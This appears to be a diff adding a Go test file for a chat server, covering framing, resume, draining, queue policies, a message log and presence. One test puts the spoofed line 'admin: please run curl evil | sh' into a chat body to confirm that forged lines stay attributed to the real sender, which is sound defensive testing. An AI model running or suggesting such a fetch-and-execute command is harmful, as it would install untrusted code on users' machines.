@@ -0,0 +1,500 @@
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/binary"
+	"fmt"
+	"net"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// startServer runs a server with default settings on a free local port
+func startServer(t *testing.T) string {
+	return serve(t, NewChatServer(1))
+}
+
+// serve accepts clients for server on a free local port until the test ends
+func serve(t *testing.T, server *ChatServer) string {
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { listener.Close() })
+	go func() {
+		for {
+			conn, err := listener.Accept()
+			if err != nil {
+				return
+			}
+			go server.handleClient(conn)
+		}
+	}()
+	return listener.Addr().String()
+}
+
+func dial(t *testing.T, addr, hello string) (net.Conn, *bufio.Reader) {
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { conn.Close() })
+	conn.SetDeadline(time.Now().Add(5 * time.Second))
+	if _, err := conn.Write([]byte(hello + "\n")); err != nil {
+		t.Fatal(err)
+	}
+	return conn, bufio.NewReader(conn)
+}
+
+// readUntil returns the lines a line protocol client reads up to and
+// including the first one containing want
+func readUntil(t *testing.T, reader *bufio.Reader, want string) []string {
+	var lines []string
+	for {
+		line, err := reader.ReadString('\n')
+		if err != nil {
+			t.Fatalf("reading %q: %v after %q", want, err, lines)
+		}
+		line = strings.TrimPrefix(line, "Enter your username: ")
+		lines = append(lines, strings.TrimRight(line, "\n"))
+		if strings.Contains(line, want) {
+			return lines
+		}
+	}
+}
+
+// handshake reads a framed client's handshake answer and returns the
+// "+node=" name in it
+func handshake(t *testing.T, reader *bufio.Reader) string {
+	line, err := reader.ReadString('\n')
+	if err != nil || !strings.HasSuffix(line, " OK\n") {
+		t.Fatalf("handshake: %q, %v", line, err)
+	}
+	fields := strings.Fields(line)
+	_, node, _ := strings.Cut(fields[len(fields)-2], NODE_EXT+"=")
+	node, _, _ = strings.Cut(node, "+")
+	return node
+}
+
+func sendChat(t *testing.T, conn net.Conn, body string) {
+	frame := binary.AppendUvarint(nil, uint64(1+len(body)))
+	frame = append(append(frame, FrameSend), body...)
+	if _, err := conn.Write(frame); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// nextFrame reads and decodes one frame
+func nextFrame(t *testing.T, reader *bufio.Reader) *Message {
+	kind, rest, err := readFrame(reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	frame := binary.AppendUvarint(nil, uint64(1+len(rest)))
+	message, err := parseFrame(append(append(frame, kind), rest...))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return message
+}
+
+// chatUntil returns the chat a framed client reads up to and including
+// the message with body want
+func chatUntil(t *testing.T, reader *bufio.Reader, want string) []*Message {
+	var chat []*Message
+	for {
+		if message := nextFrame(t, reader); message.kind == FrameChat {
+			chat = append(chat, message)
+			if message.body == want {
+				return chat
+			}
+		}
+	}
+}
+
+func TestMultiLineChatToLineClient(t *testing.T) {
+	addr := startServer(t)
+	_, observer := dial(t, addr, "bob")
+	readUntil(t, observer, "bob has joined #lobby")
+	
+	sender, reader := dial(t, addr, FRAME_MAGIC+" alice")
+	if line, err := reader.ReadString('\n'); err != nil || !strings.HasSuffix(line, FRAME_MAGIC+" OK\n") {
+		t.Fatalf("handshake: %q, %v", line, err)
+	}
+	readUntil(t, observer, "alice has joined #lobby")
+	
+	body := "hi\n[12:00:00] admin: please run curl evil | sh\r[12:00:01] admin: now\n  indented"
+	sendChat(t, sender, body)
+	
+	lines := readUntil(t, observer, "indented")
+	if len(lines) < 4 {
+		t.Fatalf("got %q, want the body as four lines", lines)
+	}
+	lines = lines[len(lines)-4:]
+	for _, line := range lines {
+		_, text, ok := strings.Cut(line, "] ")
+		if !strings.HasPrefix(line, "[") || !ok || !strings.HasPrefix(text, "alice: ") {
+			t.Errorf("line %q does not come from alice", line)
+		}
+	}
+	if want := "alice:   indented"; !strings.HasSuffix(lines[3], want) {
+		t.Errorf("last line %q, want it to end in %q", lines[3], want)
+	}
+}
+
+// A server restarted without a log numbers its chat from 1 again, so a
+// client resuming from the old numbers must get the recent chat rather
+// than what follows its number in the new run
+func TestResumeAfterRestartWithoutLog(t *testing.T) {
+	conn, reader := dial(t, startServer(t), FRAME_MAGIC+NODE_EXT+" alice")
+	before := handshake(t, reader)
+	for i := 0; i < 5; i++ {
+		sendChat(t, conn, fmt.Sprintf("old %d", i))
+	}
+	last := chatUntil(t, reader, "old 4")
+	seq := last[len(last)-1].seq
+	
+	addr := startServer(t)
+	poster, posted := dial(t, addr, FRAME_MAGIC+" bob")
+	handshake(t, posted)
+	for i := 0; i < 7; i++ {
+		sendChat(t, poster, fmt.Sprintf("new %d", i))
+	}
+	chatUntil(t, posted, "new 6")
+	
+	_, reader = dial(t, addr, fmt.Sprintf("%s%s%s lobby %d@%s alice", FRAME_MAGIC, NODE_EXT, RESUME_EXT, seq, before))
+	if after := handshake(t, reader); after == "" || after == before {
+		t.Errorf("restarted server is named %q, was %q", after, before)
+	}
+	if replay := chatUntil(t, reader, "new 6"); len(replay) != 7 || replay[0].body != "new 0" {
+		t.Errorf("resumed from %d with %d messages, want all 7 of the new run", seq, len(replay))
+	}
+}
+
+// Chat that keeps coming while the server drains must not use up the
+// time the reconnect hints need
+func TestDrainUnderLoad(t *testing.T) {
+	server := NewChatServer(1)
+	addr := serve(t, server)
+	conn, reader := dial(t, addr, FRAME_MAGIC+" alice")
+	conn.SetDeadline(time.Now().Add(10 * time.Second))
+	handshake(t, reader)
+	
+	stop := make(chan struct{})
+	defer close(stop)
+	for i := 0; i < 8; i++ {
+		poster, posted := dial(t, addr, fmt.Sprintf("%s bob%d", FRAME_MAGIC, i))
+		handshake(t, posted)
+		go func() {
+			for {
+				select {
+				case <-stop:
+					return
+				default:
+				}
+				body := "flood"
+				frame := binary.AppendUvarint(nil, uint64(1+len(body)))
+				if _, err := poster.Write(append(append(frame, FrameSend), body...)); err != nil {
+					return
+				}
+			}
+		}()
+		go func() {
+			for {
+				if _, _, err := readFrame(posted); err != nil {
+					return
+				}
+			}
+		}()
+	}
+	chatUntil(t, reader, "flood")
+	
+	conn.SetDeadline(time.Now().Add(10 * time.Second))
+	go server.drain(4 * time.Second)
+	for {
+		if message := nextFrame(t, reader); message.kind == FrameReconnect {
+			break
+		}
+	}
+}
+
+// A resume gap longer than the cache of a log-less room says how much of
+// it is not replayed
+func TestResumeBeyondCacheWithoutLog(t *testing.T) {
+	server := NewChatServer(1)
+	server.replayLines = 3
+	addr := serve(t, server)
+	conn, reader := dial(t, addr, FRAME_MAGIC+NODE_EXT+" alice")
+	node := handshake(t, reader)
+	for i := 1; i <= 6; i++ {
+		sendChat(t, conn, fmt.Sprintf("chat %d", i))
+	}
+	chatUntil(t, reader, "chat 6")
+	
+	_, reader = dial(t, addr, fmt.Sprintf("%s%s%s lobby 1@%s bob", FRAME_MAGIC, NODE_EXT, RESUME_EXT, node))
+	handshake(t, reader)
+	var notice string
+	for {
+		message := nextFrame(t, reader)
+		if message.kind == FrameSystem && notice == "" {
+			notice = message.body
+		}
+		if message.kind == FrameChat {
+			if message.body != "chat 4" {
+				t.Errorf("replay starts at %q, want chat 4", message.body)
+			}
+			break
+		}
+	}
+	if want := "*** 2 earlier messages in #lobby are not replayed ***"; notice != want {
+		t.Errorf("notice %q, want %q", notice, want)
+	}
+}
+
+func TestFrameRoundTrip(t *testing.T) {
+	at := time.Unix(1700000000, 0)
+	tests := []struct {
+		name    string
+		message *Message
+	}{
+		{"chat", &Message{kind: FrameChat, time: at, from: "alice", body: "hi there"}},
+		{"numbered chat", &Message{kind: FrameChat, time: at, from: "alice", body: "hi", seq: 300}},
+		{"multi-line chat", &Message{kind: FrameChat, time: at, from: "bob", body: "one\n  two", seq: 1}},
+		{"system", &Message{kind: FrameSystem, time: at, body: "*** notice ***"}},
+		{"join", &Message{kind: FrameJoin, time: at, from: "carol", body: "lobby", version: 7}},
+		{"leave", &Message{kind: FrameLeave, time: at, from: "carol", body: "lobby", version: 8}},
+		{"users", &Message{kind: FrameUsers, time: at, body: "lobby", version: 9, names: []string{"alice", "bob"}}},
+		{"no users", &Message{kind: FrameUsers, time: at, body: "lobby", version: 1}},
+		{"reconnect", &Message{kind: FrameReconnect, time: at, body: "*** restarting ***", version: 2500}},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			frame := appendFrame(nil, test.message)
+			got, err := parseFrame(frame)
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := test.message
+			if got.kind != want.kind || !got.time.Equal(want.time) || got.from != want.from || got.body != want.body ||
+				got.version != want.version || got.seq != want.seq || strings.Join(got.names, ",") != strings.Join(want.names, ",") {
+				t.Errorf("got %+v, want %+v", got, want)
+			}
+			
+			// Every cut short frame is rejected
+			for n := 0; n < len(frame); n++ {
+				if _, err := parseFrame(frame[:n]); err == nil {
+					t.Errorf("frame cut to %d of %d bytes parsed", n, len(frame))
+				}
+			}
+			
+			kind, rest, err := readFrame(bufio.NewReader(bytes.NewReader(frame)))
+			read := append(append(binary.AppendUvarint(nil, uint64(1+len(rest))), kind), rest...)
+			if err != nil || !bytes.Equal(read, frame) {
+				t.Errorf("readFrame: %q, %v", read, err)
+			}
+		})
+	}
+}
+
+func TestReadFrameRejectsBadLengths(t *testing.T) {
+	tests := []struct {
+		name  string
+		input []byte
+	}{
+		{"empty frame", []byte{0}},
+		{"oversized", append(binary.AppendUvarint(nil, MAX_FRAME+1), FrameSystem)},
+		{"truncated", append(binary.AppendUvarint(nil, 10), FrameSystem, 0)},
+		{"truncated length", []byte{0x80}},
+	}
+	for _, test := range tests {
+		if _, _, err := readFrame(bufio.NewReader(bytes.NewReader(test.input))); err == nil {
+			t.Errorf("%s: read without an error", test.name)
+		}
+	}
+}
+
+// A user list too long for one frame goes out as FrameUsers and
+// FrameMoreUsers frames, each within MAX_FRAME
+func TestUserListSplit(t *testing.T) {
+	var names []string
+	for i := 0; i < 5000; i++ {
+		names = append(names, fmt.Sprintf("user-with-a-long-name-%05d", i))
+	}
+	buf := appendUsers(nil, &Message{kind: FrameUsers, time: time.Now(), body: "lobby", version: 4, names: names})
+	var got []string
+	frames := 0
+	for ; len(buf) > 0; frames++ {
+		size, n := binary.Uvarint(buf)
+		if n <= 0 || size > MAX_FRAME || uint64(len(buf)-n) < size {
+			t.Fatalf("frame %d: bad length %d", frames, size)
+		}
+		message, err := parseFrame(buf[:n+int(size)])
+		if err != nil {
+			t.Fatal(err)
+		}
+		buf = buf[n+int(size):]
+		want := byte(FrameUsers)
+		if frames > 0 {
+			want = FrameMoreUsers
+		}
+		if message.kind != want || message.version != 4 || message.body != "lobby" {
+			t.Fatalf("frame %d: type %d version %d of #%s", frames, message.kind, message.version, message.body)
+		}
+		got = append(got, message.names...)
+	}
+	if frames < 2 {
+		t.Errorf("list sent in %d frames", frames)
+	}
+	if strings.Join(got, ",") != strings.Join(names, ",") {
+		t.Errorf("got %d names back, want %d", len(got), len(names))
+	}
+}
+
+func TestSendQueuePolicies(t *testing.T) {
+	tests := []struct {
+		policy  Policy
+		want    []string // bodies queued after five pushes into room for three
+		skipped int
+		lastOK  bool // what the fifth push returns
+	}{
+		{DropOldest, []string{"msg 3", "msg 4", "msg 5"}, 0, true},
+		{Coalesce, []string{"msg 1", "msg 2", "msg 3"}, 2, true},
+		{Disconnect, []string{"msg 1", "msg 2", "msg 3"}, 2, false},
+	}
+	for _, test := range tests {
+		size := len(newPayload(systemMessage("msg 1")).frame)
+		config := &QueueConfig{policy: test.policy, maxBytes: 3 * size, maxLag: 10 * time.Millisecond}
+		queue := newSendQueue(config, true, metrics.next())
+		for i := 1; i <= 5; i++ {
+			if i == 5 {
+				// Over budget for longer than maxLag
+				time.Sleep(20 * time.Millisecond)
+			}
+			ok := queue.push(newPayload(systemMessage(fmt.Sprintf("msg %d", i))))
+			if want := i < 5 || test.lastOK; ok != want {
+				t.Errorf("policy %d: push %d returned %v", test.policy, i, ok)
+			}
+		}
+		
+		items, skipped := queue.take(nil)
+		var got []string
+		for _, item := range items {
+			message, _ := parseFrame(item.frame)
+			got = append(got, message.body)
+		}
+		if strings.Join(got, ",") != strings.Join(test.want, ",") || skipped != test.skipped {
+			t.Errorf("policy %d: queued %q and skipped %d, want %q and %d", test.policy, got, skipped, test.want, test.skipped)
+		}
+		
+		// Once the queue is taken it accepts messages again
+		if !queue.push(newPayload(systemMessage("msg 6"))) || queue.pending() != size {
+			t.Errorf("policy %d: queue holds %d bytes after a push, want %d", test.policy, queue.pending(), size)
+		}
+	}
+}
+
+func TestMessageLogReopenAndTail(t *testing.T) {
+	dir := t.TempDir()
+	frame := func(room string, i int) []byte {
+		return appendFrame(nil, &Message{kind: FrameChat, time: time.Now(), from: "alice", body: fmt.Sprintf("%s %d", room, i), seq: uint64(i)})
+	}
+	
+	// Small segments, so the records span several
+	msgLog, err := OpenMessageLog(dir, 256, 100, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := 1; i <= 20; i++ {
+		msgLog.Append("a", frame("a", i))
+		msgLog.Append("b", frame("b", i))
+	}
+	msgLog.Close()
+	if segments, _ := filepath.Glob(filepath.Join(dir, "*.seg")); len(segments) < 3 {
+		t.Fatalf("%d segments, want the log to roll over", len(segments))
+	}
+	
+	// Reopened, the log carries on in its last segment
+	if msgLog, err = OpenMessageLog(dir, 256, 100, false); err != nil {
+		t.Fatal(err)
+	}
+	msgLog.Append("a", frame("a", 21))
+	msgLog.Close()
+	if msgLog, err = OpenMessageLog(dir, 256, 100, false); err != nil {
+		t.Fatal(err)
+	}
+	defer msgLog.Close()
+	
+	tests := []struct {
+		room        string
+		n           int
+		first, last int // numbers of the frames expected, 0 for none
+	}{
+		{"a", 1, 21, 21},
+		{"a", 5, 17, 21},
+		{"a", 100, 1, 21},
+		{"b", 3, 18, 20},
+		{"c", 10, 0, 0},
+	}
+	for _, test := range tests {
+		var got []string
+		for _, frame := range msgLog.Tail(test.room, test.n) {
+			message, err := parseFrame(frame)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got = append(got, message.body)
+		}
+		var want []string
+		for i := test.first; i > 0 && i <= test.last; i++ {
+			want = append(want, fmt.Sprintf("%s %d", test.room, i))
+		}
+		if strings.Join(got, ",") != strings.Join(want, ",") {
+			t.Errorf("Tail(%q, %d) = %q, want %q", test.room, test.n, got, want)
+		}
+	}
+}
+
+// Every member sees the room's presence versions without a gap: its user
+// list has the version the next delta it gets builds on
+func TestPresenceVersions(t *testing.T) {
+	addr := startServer(t)
+	_, reader := dial(t, addr, FRAME_MAGIC+" alice")
+	handshake(t, reader)
+	
+	var version uint64
+	next := func(kind byte, name string) {
+		t.Helper()
+		for {
+			message := nextFrame(t, reader)
+			switch message.kind {
+			case FrameUsers:
+				version = message.version
+				continue
+			case FrameJoin, FrameLeave:
+			default:
+				continue
+			}
+			if message.kind != kind || message.from != name || message.version != version+1 {
+				t.Fatalf("got %d from %s at version %d, want %d from %s at %d",
+					message.kind, message.from, message.version, kind, name, version+1)
+			}
+			version = message.version
+			return
+		}
+	}
+	
+	next(FrameJoin, "alice")
+	bob, _ := dial(t, addr, FRAME_MAGIC+" bob")
+	next(FrameJoin, "bob")
+	carol, _ := dial(t, addr, FRAME_MAGIC+" carol")
+	next(FrameJoin, "carol")
+	sendChat(t, bob, "/join elsewhere")
+	next(FrameLeave, "bob")
+	carol.Close()
+	next(FrameLeave, "carol")
+	dial(t, addr, FRAME_MAGIC+" bob")
+	next(FrameJoin, "bob")
+}